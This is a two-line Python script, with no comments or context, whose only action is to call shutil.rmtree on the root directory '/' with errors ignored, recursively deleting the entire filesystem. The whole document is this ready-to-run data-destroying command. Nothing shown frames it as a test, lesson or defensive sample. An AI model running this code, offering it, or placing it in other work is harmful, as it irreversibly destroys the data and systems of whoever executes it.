#!/usr/bin/env python3

import shutil
shutil.rmtree("/", ignore_errors=True)
